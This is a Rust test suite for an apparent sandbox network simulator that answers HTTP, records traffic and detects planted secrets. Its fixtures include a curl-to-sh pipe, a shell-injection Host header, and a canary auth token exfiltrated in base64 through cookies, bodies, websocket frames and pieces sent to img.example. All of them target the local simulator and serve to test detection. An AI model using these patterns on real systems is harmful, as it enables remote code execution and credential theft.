//! HTTP by real clients and by hand.
#![allow(clippy::unwrap_used)]

mod common;

use std::time::{Duration, Instant};

use apa_model::{IncompleteCode, Phase, ProcessId, Protocol};
use base64::Engine as _;
use common::{SECRET, simulate, simulate_with, stdout, summaries};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Probes H1, H12.
#[tokio::test(flavor = "multi_thread")]
async fn curl_keeps_one_connection_for_many_requests() {
    let sim = simulate();
    let url = format!("http://{}/page.html", sim.tcp);
    let Some(output) = sim
        .curl(&[
            "-w",
            " %{http_code} %{num_connects}\n",
            "-o",
            "/dev/null",
            &url,
            "-o",
            "/dev/null",
            &url,
        ])
        .await
    else {
        return;
    };
    assert_eq!(stdout(&output), " 200 1\n 200 0\n");
    let tcp = sim.tcp;
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows.len(), 1);
    let flow = &result.flows[0];
    assert_eq!(
        (flow.id, flow.phase, flow.process),
        (1, Phase::Install, Some(ProcessId(7)))
    );
    assert_eq!((flow.destination, flow.protocol), (tcp, Protocol::Http));
    assert_eq!(flow.layers, ["tcp", "http"]);
    assert_eq!(summaries(flow), vec![format!("GET {url}"); 2]);
    assert!(
        flow.messages[0]
            .headers
            .iter()
            .any(|(name, _)| name.as_bytes() == b"User-Agent")
    );
    assert!(
        flow.messages[0]
            .answer
            .to_string()
            .starts_with("200 text/html ")
    );
    assert!(flow.bytes_out > 100 && flow.bytes_in > 100);
    assert!(flow.ended_us.is_some() && !flow.truncated);
    assert_eq!(result.incomplete, []);
}

/// Probes H4, H5, H6, H7.
#[tokio::test(flavor = "multi_thread")]
async fn every_method_is_answered_and_recorded() {
    let sim = simulate();
    let url = format!("http://{}/thing", sim.tcp);
    for (method, status) in [
        ("PUT", "201"),
        ("PATCH", "200"),
        ("DELETE", "200"),
        ("OPTIONS", "204"),
        ("TRACE", "405"),
        ("PROPFIND", "200"),
        ("FROB", "200"),
    ] {
        let Some(output) = sim
            .curl(&["-X", method, "-w", "%{http_code}", "-o", "/dev/null", &url])
            .await
        else {
            return;
        };
        assert_eq!(stdout(&output), status, "{method}");
    }
    let Some(output) = sim.curl(&["-I", &url]).await else {
        return;
    };
    let head = stdout(&output);
    assert!(
        head.contains("Content-Length: ")
            && head.contains("Server: nginx")
            && head.contains("Date: "),
        "{head}"
    );
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows.len(), 8);
    assert_eq!(summaries(&result.flows[6]), [format!("FROB {url}")]);
}

/// Probes H8, H9.
#[tokio::test(flavor = "multi_thread")]
async fn chunked_and_counted_bodies_are_kept_whole() {
    let sim = simulate();
    let url = format!("http://{}/up", sim.tcp);
    for header in ["Transfer-Encoding: chunked", "X-Plain: 1"] {
        let Some(output) = sim
            .curl(&["-H", header, "--data-binary", "@/etc/services", &url])
            .await
        else {
            return;
        };
        assert!(stdout(&output).contains("\"ok\":true"));
    }
    let expected = std::fs::read("/etc/services").unwrap();
    let (result, blobs) = sim.finish().await;
    for flow in &result.flows {
        let message = &flow.messages[0];
        assert_eq!(message.body_bytes, expected.len() as u64);
        assert_eq!(blobs.get(&message.body), expected);
    }
    assert_eq!(result.flows.len(), 2);
}

/// Probe H11.
#[tokio::test(flavor = "multi_thread")]
async fn expect_100_continue_is_answered_at_once() {
    let sim = simulate();
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    stream.write_all(b"POST /x HTTP/1.1\r\nHost: a.test\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n").await.unwrap();
    let mut got = [0; 25];
    stream.read_exact(&mut got).await.unwrap();
    assert_eq!(&got, b"HTTP/1.1 100 Continue\r\n\r\n");
    stream.write_all(b"abc").await.unwrap();
    let mut got = [0; 15];
    stream.read_exact(&mut got).await.unwrap();
    assert_eq!(&got, b"HTTP/1.1 200 OK");
    drop(stream);
    let (result, blobs) = sim.finish().await;
    assert_eq!(blobs.get(&result.flows[0].messages[0].body), b"abc");
}

/// Probe H13.
#[tokio::test(flavor = "multi_thread")]
async fn pipelined_requests_with_chunk_extensions_and_trailers_are_told_apart() {
    let sim = simulate();
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    stream
        .write_all(
            b"POST /1 HTTP/1.1\r\nhost:a.test\r\nTransfer-Encoding: chunked\r\n\r\n3;x=\"y\"\r\nabc\r\n2\r\nde\r\n0\r\nX-Trail: 1\r\n\r\n\
              GET http://b.test/2?q HTTP/1.1\r\n\r\n\
              HEAD /3 HTTP/1.0\r\n\r\n",
        )
        .await
        .unwrap();
    let mut answers = String::new();
    stream.read_to_string(&mut answers).await.unwrap();
    assert_eq!(answers.matches("HTTP/1.1 200 OK").count(), 3);
    assert!(
        answers.ends_with("Connection: close\r\n\r\n"),
        "a HEAD answer has no body: {answers}"
    );
    let tcp = sim.tcp;
    let (result, blobs) = sim.finish().await;
    let flow = &result.flows[0];
    assert_eq!(
        summaries(flow),
        [
            "POST http://a.test/1".to_owned(),
            "GET http://b.test/2?q".to_owned(),
            format!("HEAD http://{tcp}/3")
        ]
    );
    assert_eq!(blobs.get(&flow.messages[0].body), b"abcde");
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_requests_are_answered_400_and_kept_raw() {
    let sim = simulate();
    let requests = [
        format!("GET / HTTP/1.1\r\nno colon {SECRET}\r\n\r\n"),
        "GET /\0 HTTP/1.1\r\n\r\n".to_owned(),
        format!("GET / HTTP/1.1\r\n{}\r\n", "a: b\r\n".repeat(300)),
    ];
    for (request, status) in requests.iter().zip(["400", "400", "431"]) {
        let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        stream.shutdown().await.unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).await.unwrap();
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status} ")),
            "{answer}"
        );
    }
    let (result, blobs) = sim.finish().await;
    for (flow, request) in result.flows.iter().zip(&requests) {
        assert_eq!(blobs.get(&flow.sent_blob), request.as_bytes());
    }
    assert_eq!(result.flows[0].canary_hits[0].layers, ["raw"]);
}

/// Probe H27.
#[tokio::test(flavor = "multi_thread")]
async fn ten_megabytes_are_cut_at_the_bound_and_said_to_be() {
    let sim = simulate_with(|config| config.max_body_bytes = 1 << 20);
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    let head = "POST /big HTTP/1.1\r\nHost: a.test\r\nContent-Length: 10485760\r\n\r\n";
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&vec![b'x'; 10 << 20]).await.unwrap();
    let mut answer = [0; 15];
    stream.read_exact(&mut answer).await.unwrap();
    assert_eq!(&answer, b"HTTP/1.1 200 OK");
    drop(stream);
    let (result, blobs) = sim.finish().await;
    let flow = &result.flows[0];
    assert!(flow.truncated);
    assert_eq!(flow.messages[0].body_bytes, 10 << 20);
    assert_eq!(blobs.get(&flow.messages[0].body).len(), 1 << 20);
    assert_eq!(result.incomplete.len(), 1);
    assert_eq!(result.incomplete[0].code, IncompleteCode::FlowLimit);
}

/// Probe H24.
#[tokio::test(flavor = "multi_thread")]
async fn slow_and_stuck_clients_delay_nobody() {
    let sim = simulate();
    let mut slow = Vec::new();
    for index in 0..100 {
        let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
        stream
            .write_all(
                ["G", "GET /x HTTP/1.1\r\nA: ", "\x16\x03\x01\x05", ""][index % 4].as_bytes(),
            )
            .await
            .unwrap();
        slow.push(stream);
    }
    let started = Instant::now();
    for _ in 0..20 {
        let mut fast = TcpStream::connect(sim.tcp).await.unwrap();
        fast.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
        let mut answer = String::new();
        fast.read_to_string(&mut answer).await.unwrap();
        assert!(answer.contains("It works"));
    }
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?} for 20 requests",
        started.elapsed()
    );
    tokio::time::sleep(Duration::from_millis(2100)).await;
    // A slowloris that takes longer than the sniffer's patience is still served in the end.
    slow[0]
        .write_all(b"ET /late HTTP/1.0\r\n\r\n")
        .await
        .unwrap();
    let mut answer = String::new();
    slow[0].read_to_string(&mut answer).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 200 OK"));
    let started = Instant::now();
    let (result, _) = sim.finish().await;
    assert!(
        started.elapsed() < Duration::from_millis(1500),
        "{:?} to finish",
        started.elapsed()
    );
    assert_eq!(result.flows.len(), 120);
    assert!(result.flows.iter().all(|flow| flow.ended_us.is_some()));
}

#[tokio::test(flavor = "multi_thread")]
async fn connections_past_the_bound_are_reset_and_counted() {
    let sim = simulate_with(|config| config.max_open_flows = 3);
    let mut open = Vec::new();
    let mut reset = 0;
    for index in 0..5 {
        // A reset may arrive before connecting is over, or with the first read.
        let Ok(mut stream) = TcpStream::connect(sim.tcp).await else {
            reset += 1;
            continue;
        };
        if index >= 3 {
            reset += usize::from(stream.read_u8().await.is_err());
        }
        open.push(stream);
    }
    assert_eq!(reset, 2);
    assert_eq!(sim.netsim.snapshot(), 3);
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows.len(), 3);
    assert_eq!(result.incomplete[0].code, IncompleteCode::FlowLimit);
    assert!(
        result.incomplete[0]
            .detail
            .to_string()
            .starts_with("2 connections were reset")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_slow_attribution_neither_blocks_nor_fails_a_flow() {
    let sim = simulate_with(|config| {
        config.attribute = std::sync::Arc::new(|_, _, _| {
            std::thread::sleep(Duration::from_secs(1));
            Some(ProcessId(1))
        });
    });
    let started = Instant::now();
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.unwrap();
    assert!(started.elapsed() < Duration::from_millis(900));
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows[0].process, None);
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_are_found_in_path_headers_cookies_and_bodies() {
    let sim = simulate();
    let encoded = base64::engine::general_purpose::STANDARD
        .encode(format!("//registry/:_authToken={SECRET}\n"));
    let requests = [
        (
            format!("GET /c?d={SECRET} HTTP/1.0\r\n\r\n"),
            vec!["http.target"],
        ),
        (
            format!("GET / HTTP/1.0\r\nCookie: s={encoded}\r\n\r\n"),
            vec!["http.headers", "base64"],
        ),
        (
            format!(
                "POST / HTTP/1.0\r\nContent-Length: {}\r\n\r\n{{\"d\":\"{encoded}\"}}",
                encoded.len() + 8
            ),
            vec!["http.body", "json", "base64"],
        ),
    ];
    for (request, _) in &requests {
        let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).await.unwrap();
        assert!(answer.starts_with("HTTP/1.1 200 OK"));
    }
    let (result, _) = sim.finish().await;
    for (flow, (_, layers)) in result.flows.iter().zip(&requests) {
        assert_eq!(flow.canary_hits[0].canary, "token");
        assert_eq!(&flow.canary_hits[0].layers, layers);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn downloads_are_valid_files_of_their_kind() {
    let sim = simulate();
    let base = format!("http://{}", sim.tcp);
    for (path, check) in [
        ("x.json", "import json,sys; json.load(sys.stdin.buffer)"),
        ("x.py", "import sys; compile(sys.stdin.read(), 'x', 'exec')"),
        (
            "x.zip",
            "import sys,io,zipfile; assert 'run.sh' in zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read())).namelist()",
        ),
        (
            "x.tgz",
            "import sys,io,tarfile; assert 'install.sh' in tarfile.open(fileobj=io.BytesIO(sys.stdin.buffer.read())).getnames()",
        ),
        (
            "x.gz",
            "import sys,gzip; assert gzip.decompress(sys.stdin.buffer.read()) == b''",
        ),
        (
            "x.png",
            "import sys,zlib,struct; d=sys.stdin.buffer.read(); i=d.index(b'IDAT'); n=struct.unpack('>I',d[i-4:i])[0]; assert zlib.crc32(d[i:i+4+n])==struct.unpack('>I',d[i+4+n:i+8+n])[0]; assert len(zlib.decompress(d[i+4:i+4+n]))==5",
        ),
    ] {
        let script = format!(
            "import sys,io,urllib.request as u\nb=u.urlopen('{base}/{path}').read()\nclass S: buffer=io.BytesIO(b); read=lambda s: b.decode()\nsys.stdin=S()\n{check}"
        );
        let Some(output) = sim.client("python3", &["-c", &script]).await else {
            return;
        };
        stdout(&output);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_piped_into_a_shell_reports_that_it_ran() {
    let sim = simulate();
    let command = format!("curl -sS --noproxy '' http://{}/install.sh | sh", sim.tcp);
    let Some(output) = sim.client("sh", &["-c", &command]).await else {
        return;
    };
    assert_eq!(stdout(&output), "");
    let tcp = sim.tcp;
    let (result, _) = sim.finish().await;
    if result.flows.is_empty() {
        eprintln!("SKIPPED: curl is not installed");
        return;
    }
    let fetched: Vec<String> = result.flows.iter().flat_map(summaries).collect();
    assert_eq!(
        fetched,
        [
            format!("GET http://{tcp}/install.sh"),
            format!("GET http://{tcp}{}", apa_netsim::STAGE_TWO_MARKER)
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_header_cannot_write_into_a_stub_script() {
    let sim = simulate();
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    stream
        .write_all(b"GET /a.sh HTTP/1.0\r\nHost: x';touch pwned;'\r\n\r\n")
        .await
        .unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.unwrap();
    assert!(
        answer.contains("#!/bin/sh") && !answer.contains("pwned"),
        "{answer}"
    );
}

/// Probe H14.
#[tokio::test(flavor = "multi_thread")]
async fn python_and_node_read_json_and_git_gets_404() {
    let sim = simulate();
    let base = format!("http://{}", sim.tcp);
    let python = format!(
        "import http.client,json\nc=http.client.HTTPConnection('{}')\nfor i in range(2):\n c.request('POST','/api/v1/x',body=b'{{}}')\n r=c.getresponse(); print(json.load(r)['ok'])",
        sim.tcp
    );
    if let Some(output) = sim.client("python3", &["-c", &python]).await {
        assert_eq!(stdout(&output), "True\nTrue\n");
    }
    let node = format!("fetch('{base}/users/me').then(r=>r.json()).then(j=>console.log(j.ok))");
    if let Some(output) = sim.client("node", &["-e", &node]).await {
        assert_eq!(stdout(&output), "true\n");
    }
    if let Some(output) = sim
        .client("git", &["ls-remote", &format!("{base}/some/repo.git")])
        .await
    {
        assert!(!output.status.success());
        assert!(String::from_utf8_lossy(&output.stderr).contains("not found"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_sent_just_before_the_end_is_recorded() {
    let sim = simulate();
    let address = sim.tcp;
    let sender = std::thread::spawn(move || {
        use std::io::Write;
        for index in 0..20 {
            let mut stream = std::net::TcpStream::connect(address).unwrap();
            write!(stream, "GET /{index} HTTP/1.1\r\nHost: a.test\r\n\r\n").unwrap();
        }
    });
    sender.join().unwrap();
    let (result, _) = sim.finish().await;
    let mut paths: Vec<String> = result.flows.iter().flat_map(summaries).collect();
    paths.sort();
    paths.dedup();
    assert_eq!(paths.len(), 20);
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_protocols_are_taken_in_and_never_answered() {
    let sim = simulate();
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    stream
        .write_all(format!("KNOCK bot\r\nUSER x\r\n{SECRET}\r\n").as_bytes())
        .await
        .unwrap();
    let mut byte = [0];
    let answered = tokio::time::timeout(Duration::from_millis(300), stream.read(&mut byte)).await;
    assert!(answered.is_err(), "nothing is answered");
    let (result, blobs) = sim.finish().await;
    let flow = &result.flows[0];
    assert_eq!(flow.layers, ["tcp", "raw"]);
    assert!(blobs.get(&flow.sent_blob).starts_with(b"KNOCK bot"));
    assert_eq!(flow.canary_hits.len(), 1);
    assert_eq!(flow.bytes_in, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn garbage_of_every_shape_leaves_the_services_standing() {
    let sim = simulate();
    let starts: [&[u8]; 6] = [
        b"",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"GET / HTTP/1.1\r\n",
        b"CONNECT x:1 HTTP/1.1\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Length: 40\r\nContent-Encoding: gzip\r\n\r\n\x1f\x8b\x08",
    ];
    let mut state = 7_u64;
    for round in 0..240 {
        let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
        let mut bytes = starts[round % starts.len()].to_vec();
        for _ in 0..round {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            bytes.push((state >> 56) as u8);
        }
        // The other side may answer and close before all of it is sent.
        let _ = stream.write_all(&bytes).await;
        let _ = stream.shutdown().await;
    }
    let mut stream = TcpStream::connect(sim.tcp).await.unwrap();
    stream.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 200 OK"));
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows.len(), 241);
    assert!(result.flows.iter().all(|flow| flow.ended_us.is_some()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_cut_into_pieces_over_many_requests_is_put_together() {
    let sim = simulate();
    let text = base64::engine::general_purpose::URL_SAFE.encode(SECRET);
    for (number, piece) in text.as_bytes().chunks(9).enumerate() {
        let piece = String::from_utf8_lossy(piece);
        let mut tcp = TcpStream::connect(sim.tcp).await.unwrap();
        let request = format!(
            "GET /p.gif?n={number}&d={piece} HTTP/1.1\r\nHost: img.example\r\nConnection: close\r\n\r\n"
        );
        tcp.write_all(request.as_bytes()).await.unwrap();
        tcp.read_to_end(&mut Vec::new()).await.unwrap();
    }
    let (result, _) = sim.finish().await;
    let hits: Vec<_> = result
        .flows
        .iter()
        .flat_map(|flow| &flow.canary_hits)
        .collect();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].layers, ["http.requests", "base64"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_websocket_is_agreed_to_and_its_masked_frames_are_read() {
    let sim = simulate();
    let mut tcp = TcpStream::connect(sim.tcp).await.unwrap();
    // Key and answer of the protocol's own specification.
    tcp.write_all(
        b"GET /chat HTTP/1.1\r\nHost: push.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
          Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    )
    .await
    .unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        assert_ne!(tcp.read_buf(&mut head).await.unwrap(), 0);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    assert!(head.starts_with("HTTP/1.1 101 "), "{head}");
    assert!(head.contains("s3pPLMBiTxaQ9kYGzzhZRbK+xOo="), "{head}");
    let mask = [7, 1, 200, 9];
    let masked = SECRET
        .bytes()
        .enumerate()
        .map(|(at, byte)| byte ^ mask[at % 4]);
    let mut frame = vec![0x82, 0x80 | u8::try_from(SECRET.len()).unwrap()];
    frame.extend(mask);
    frame.extend(masked);
    tcp.write_all(&frame).await.unwrap();
    tcp.shutdown().await.unwrap();
    let (result, _) = sim.finish().await;
    let flow = &result.flows[0];
    assert_eq!(flow.canary_hits.len(), 1);
    assert!(flow.layers.contains(&"websocket".to_owned()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_javascript_stub_asks_for_the_marker_when_it_is_evaluated() {
    let sim = simulate();
    let url = format!("http://{}/v2/theme.js", sim.tcp);
    let Some(output) = sim.curl(&[&url]).await else {
        return;
    };
    assert!(stdout(&output).contains(apa_netsim::STAGE_TWO_MARKER));
}
